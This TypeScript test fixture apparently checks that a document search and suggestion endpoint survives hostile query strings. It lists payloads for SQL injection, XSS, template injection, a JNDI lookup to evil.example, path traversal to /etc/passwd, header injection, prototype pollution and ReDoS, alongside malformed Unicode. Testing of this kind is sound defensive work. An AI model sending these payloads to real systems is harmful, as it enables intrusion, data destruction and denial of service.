import { paths } from '../../../src/paths.ts';
import type { Hostile } from './entry.ts';

/** Asked of search and suggestions, as an address has them: percent signs are as sent. */
const asked: [string, string][] = [
  ['10,000 letters', 'a'.repeat(10_000)],
  ['10,000 letters with marks', encodeURIComponent('ế'.repeat(10_000))],
  ['5,000 marks on one letter', encodeURIComponent(`a${'\u0301'.repeat(5_000)}`)],
  ['a trap for regular expressions', encodeURIComponent(`${'a'.repeat(500)}!`.repeat(2))],
  ['nested groups', encodeURIComponent('(a+)+$'.repeat(100))],
  ['300 numbers', encodeURIComponent('15-NQ/TU '.repeat(300))],
  ['a number of 900 digits', '9'.repeat(900)],
  ['slashes and hyphens', encodeURIComponent('1/2/3-4-5/6-NQ-'.repeat(60))],
  ['1,000 quotes', '%22'.repeat(1_000)],
  ['a quote that does not end', '%22nghị quyết'],
  ['500 hyphens', '-'.repeat(500)],
  ['only what is excluded', '-nghi -quyet'],
  ['a NUL', 'nghi%00quyet'],
  ['half of a pair', '%ED%A0%80'],
  ['bytes that are no UTF-8', '%FF%FE%C3%28'],
  ['a letter that is cut', 'nghi%E1%BB'],
  ['a percent sign alone', '100%'],
  ['a turned direction', encodeURIComponent('\u202etyuq ihgn\u202c')],
  ['signs of no width', encodeURIComponent('ng\u200bh\u200dị\u2060 qu\ufeffyết')],
  ['letters taken apart', encodeURIComponent('Nghị quyết'.normalize('NFD'))],
  ['letters that look alike', encodeURIComponent('Ngһị quуết')],
  ['wide letters', encodeURIComponent('ＮＧＨＩ　ＱＵＹＥＴ １５')],
  ['mathematical letters', encodeURIComponent('𝐍𝐠𝐡𝐢 𝐪𝐮𝐲𝐞𝐭')],
  ['flags and families', encodeURIComponent('🇻🇳👨‍👩‍👧‍👦'.repeat(50))],
  ['Arabic digits', encodeURIComponent('١٥-NQ/TU')],
  ['unassigned signs', encodeURIComponent('\u{10ffff}\u{e0001}')],
  ['SQL', encodeURIComponent(`' or 1=1; drop table documents; --`)],
  ['SQL in dollar quotes', encodeURIComponent('$$;select pg_sleep(30);$$')],
  ['a query of the engine', encodeURIComponent('{"query":{"match_all":{}}}')],
  ['operators of the engine', encodeURIComponent('title:* AND _exists_:x~9 /.*/ [* TO *]')],
  ['a script', encodeURIComponent('<script>alert(1)</script>')],
  ['an image with a handler', encodeURIComponent('"><img src=x onerror=alert(1)>')],
  ['a template', encodeURIComponent('{{7*7}}\u0024{7*7}<%= 7*7 %>')],
  ['a lookup', encodeURIComponent('\u0024{jndi:ldap://evil.example/a}')],
  ['a link that runs', encodeURIComponent('javascript:alert(1)')],
  ['a path', encodeURIComponent('../../../../etc/passwd')],
  ['a header', 'a%0d%0aSet-Cookie:%20session=evil'],
  ['control signs', '%01%02%07%1b%5b31m'],
  ['backslashes', '%5c%5c%22%5c'],
  ['only signs', encodeURIComponent('!@#$^&*()+=~`|;:,.?')],
  ['only blanks', '%20%09%0a%c2%a0'],
];

const questions: Hostile[] = asked.map(([what, q]) => ({
  what: `a question of ${what}`,
  by: 'person',
  path: `${paths.search()}?q=${q}`,
  status: 200,
}));

const typed: Hostile[] = asked
  .filter((_, at) => at % 4 === 0)
  .map(([what, q]) => ({
    what: `typing ${what}`,
    by: 'person',
    path: `${paths.suggest()}?q=${q}`,
    status: 200,
  }));

/** Filters and pages: what a page cannot read, it takes for the default. */
const filters: Hostile[] = (
  [
    ['a question given twice', 'q=a&q=b'],
    ['a question as an array', 'q[]=a&q[0]=b'],
    ['an operator of another database', 'q[$gt]=&q[$where]=1'],
    ['a name of a prototype', '__proto__=1&constructor[prototype][x]=1&q=a'],
    ['page -1', 'q=a&page=-1'],
    ['page 0', 'q=a&page=0'],
    ['page 10^21', 'q=a&page=1000000000000000000000'],
    ['page 1e9', 'q=a&page=1e9'],
    ['page NaN', 'q=a&page=NaN'],
    ['half a page', 'q=a&page=1.5'],
    ['100 types', `q=a${'&type=x'.repeat(100)}`],
    ['a type of 10,000 letters', `q=a&type=${'x'.repeat(10_000)}`],
    ['a year below 0', 'q=a&year=-5'],
    ['a year beyond integers', 'q=a&year=99999999999999'],
    ['an issuer beyond integers', 'q=a&issuer=2147483648'],
    ['SQL as an issuer', 'q=a&issuer=1%20or%201=1'],
    ['30 February', 'q=a&from=2026-02-30'],
    ['the day 0', 'q=a&on=0000-00-00'],
    ['a day far off', 'q=a&on=9999-12-31'],
    ['a year of five digits', 'q=a&on=12026-01-01'],
    ['an unknown order', 'q=a&sort=evil'],
    ['2,000 parameters', `q=a${Array.from({ length: 2_000 }, (_, at) => `&p${at}=1`).join('')}`],
  ] as const
).map(([what, query]) => ({
  what: `a search with ${what}`,
  by: 'person',
  path: `${paths.search()}?${query}`,
  status: 200,
}));

export const hostileQuestions = [...questions, ...typed, ...filters];
